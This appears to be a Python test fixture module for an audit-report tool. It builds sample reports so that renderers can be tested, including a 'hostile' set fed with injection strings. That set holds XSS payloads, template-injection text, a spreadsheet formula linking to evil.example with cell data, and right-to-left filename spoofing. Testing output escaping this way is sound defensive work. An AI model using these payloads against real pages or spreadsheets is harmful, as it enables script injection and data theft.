# SPDX-FileCopyrightText: 2026 The auditor developers
# SPDX-License-Identifier: GPL-2.0-or-later
"""Reports made by hand, for tests of the forms in which they are shown: whole, in trouble, recorded, and hostile."""

import subprocess
import sys
from collections.abc import Callable, Mapping
from functools import lru_cache, partial
from types import MappingProxyType

from msgspec.structs import replace

from auditor import renderers
from auditor.audit.profiles import with_profiles
from auditor.declared.manifest import load_manifest
from auditor.documents.recorded import load_audit
from auditor.findings.judge import judge
from auditor.model.claimed import Claim
from auditor.model.declared import Limit, Release, System
from auditor.model.manifest import Manifest
from auditor.model.measured import (
    Audit,
    ComponentResult,
    Dispute,
    Function,
    LeftOutComponent,
    MeasuredFile,
    Shipped,
    SourceRevision,
    UnclassifiedFile,
    UnmeasuredFile,
)
from auditor.renderers import Report
from tests.made.audits import REVISION, SOURCE, URL, comparison_record, make_audit, measured_file, result_of
from tests.made.manifests import small_manifest
from tests.made.places import ROOT

MANIFEST = small_manifest().manifest
DOWNSTREAM = SourceRevision("packaging", "https://example.org/packaging", "R1", "3" * 40, "4" * 40, True, False)
DISPUTE = Dispute("A", 10, 9, "lizard: NLOC")

HOSTILE: Mapping[str, str] = MappingProxyType(
    {
        "markup": "</script><img src=x onerror=alert(1)>",
        "attribute": '" onmouseover="alert(1)" x="',
        "apostrophe": "' autofocus onfocus='alert(1)",
        "entity": "&lt;script&gt;&#x3c;]]>",
        "template": "{{ 7 * 7 }}{% raw %}{0} [x](javascript:alert(1))",
        "javascript": "javascript:alert(1)",
        "formula": "=HYPERLINK(\"https://evil.example/\"&A1)",
        "formula behind a blank": " +1;@SUM(A1)",
        "table": "a|b`c``d|\\|e**f**_g_~h~ # i",
        "mention": "@everyone #1 !2 www.evil.example https://evil.example/ a@evil.example",
        "comma": 'a,"b",\'c\';d\te',
        "right-to-left": "a\u202ecod.exe\u2066\u200b",
        "control": "a\x00\x1b[31m\r\nb\x7f\ufffe",
        "not UTF-8": "a\udcffb",
        "long": "n" * 4_000,
    }
)  # fmt: skip


def judged(audit: Audit, manifest: Manifest = MANIFEST) -> Report:
    return Report(audit, judge(audit, manifest), manifest)


def whole_audit() -> Audit:
    """All is measured and within the limits; one file serves a component of the TCB and one that is linked."""
    shared = measured_file("daemon/common.h", code=7, comment=1, language="C header")
    audit = make_audit(
        MANIFEST,
        daemon=result_of(
            files=(
                measured_file("daemon/a.c", code=20, comment=2, blank=3, ccns=(1, 16, 40)),
                measured_file("daemon/run", code=4, language="shell"),
                shared,
            )
        ),
        hypervisor=result_of(files=(measured_file("arch/a.S", code=5, language="assembly"),)),
        found={"daemon+library": result_of(files=(shared, measured_file("lib/list.c", code=9, ccns=(30,))))},
        linux=result_of(record=comparison_record(c=5000)),
        windows=result_of(),
    )
    patched = Shipped(URL, DOWNSTREAM, ("one.patch",), (measured_file("arch/a.S", code=6, language="assembly"),), ())
    changed = [replace(item, shipped=(patched,)) if item.files and item is audit.components[1] else item
               for item in audit.components]  # fmt: skip
    return replace(audit, components=tuple(changed))


def whole_report() -> Report:
    return judged(whole_audit())


def disputed_file(path: str, dispute: Dispute = DISPUTE) -> MeasuredFile:
    item = measured_file(path, code=30, ccns=(17, 50))
    return replace(item, measurement=replace(item.measurement, disputes=(dispute,)))


def troubled_report() -> Report:
    """Everything is wrong that can be: an exceeded limit, a failed gate, gaps, doubts, code that nobody mentions."""
    manifest = replace(
        MANIFEST, limits=(Limit("tcb", 10), Limit("hypervisor", 900)), claims=tuple(map(_gate, _claims()))
    )
    audit = make_audit(
        manifest,
        daemon=result_of(
            files=(disputed_file("daemon/a.c"), measured_file("daemon/b.c", code=200)),
            unmeasured=(UnmeasuredFile(URL, "daemon/run", "symbolic link"),),
        ),
        hypervisor=result_of(unmeasured=(UnmeasuredFile("https://example.org/upstream/beta", "", "unreachable"),)),
        windows=result_of(),
    )
    left_out = (LeftOutComponent("block", "Block backend", "third-party", "not read"),)
    unclassified = (UnclassifiedFile(URL, REVISION, "daemon/new.c"),)
    return judged(replace(audit, left_out=left_out, unclassified=unclassified), manifest)


def _claims() -> tuple[Claim, ...]:
    return MANIFEST.claims


def _gate(claim: Claim) -> Claim:
    return replace(claim, gate=True)


def shown_report() -> Report:
    """A recorded audit that is shown since nothing could be measured."""
    return replace(whole_report(), recorded="no upstream could be reached")


def hostile_report(text: str) -> Report:
    """`text` in every place that an upstream, a manifest, an option or an error message can fill."""
    item = disputed_file(f"{text}/{text}.c", Dispute("A", 10, 9, text))
    functions = (Function(text, 1, 2, 3, 99, 5), Function(text, 4, 5, 3, 98, 5))
    item = replace(item, measurement=replace(item.measurement, labels=(text,), functions=functions))
    foreign = replace(item, file=replace(item.file, url=text, revision=text))
    daemon, hypervisor, *others = (
        replace(item, title=text, sentence=text, evidence=text, doubt=text) for item in MANIFEST.components
    )
    here = replace(SOURCE, repository=text, ref=text)
    there = SourceRevision(text, text, text, text, text, locked=False, overridden=True)
    gaps = (UnmeasuredFile(URL, text, text), UnmeasuredFile(text, "", text))
    patched = Shipped(URL, replace(DOWNSTREAM, repository=text, ref=text), (text[:200],), (foreign,), (text,))
    results = (
        ComponentResult(daemon, (here,), (item,), gaps, shipped=(patched,)),
        ComponentResult(hypervisor, (there,), (foreign,)),
        *(ComponentResult(component) for component in others if component.cited),
    )
    system = System(text, (text,), text)
    groups = {name: replace(group, title=text, explanation=text) for name, group in MANIFEST.groups.items()}
    audit = Audit("R1", text, {text: text}, results, system, groups, True, (UnclassifiedFile(URL, REVISION, text),),
                  (LeftOutComponent("block", text, "third-party", text),))  # fmt: skip
    pages = {name: replace(page, title=text, url=text) for name, page in MANIFEST.pages.items()}
    claims = tuple(replace(claim, quote=text, reading=text, maximum=11) if claim.id == "small" else claim
                   for claim in MANIFEST.claims)  # fmt: skip
    releases = {"R1": Release(text, {text: text})}
    manifest = replace(MANIFEST, pages=pages, releases=releases, limits=(Limit("tcb", 1),), claims=claims)
    return replace(judged(audit, manifest), recorded=text, manifest_name=text)


@lru_cache(maxsize=1)
def recorded_report() -> Report:
    """The recorded audit of R4.3.0, as if it had been measured now."""
    file = load_manifest(ROOT / "components.toml")
    return judged(with_profiles(load_audit(ROOT / "reports" / "recorded" / "audit.json"), file), file.manifest)


REPORTS: Mapping[str, Callable[[], Report]] = MappingProxyType(
    {
        "whole": whole_report,
        "troubled": troubled_report,
        "shown": shown_report,
        "R4.3.0": recorded_report,
        **{name: partial(hostile_report, text) for name, text in HOSTILE.items()},
    }
)
"""What makes each report, by the name that a test shows for it."""


def render(form: str, report: Report) -> dict[str, str]:
    return renderers.render(report, form)


def texts_with_seed(seed: str) -> str:
    """The texts of all forms of all reports but the hostile ones, as an interpreter with this hash seed writes them."""
    program = (
        "import sys; from auditor.renderers import FORMATS; from tests.made.reports import HOSTILE, REPORTS, render;"
        "sys.stdout.buffer.write(''.join(repr((form, name, render(form, make()))) for form in FORMATS"
        " for name, make in REPORTS.items() if name not in HOSTILE).encode())"
    )
    environment = {"PYTHONHASHSEED": seed, "PYTHONPATH": str(ROOT)}
    command = [sys.executable, "-c", program]
    return subprocess.run(command, capture_output=True, text=True, check=True, env=environment, cwd=ROOT).stdout
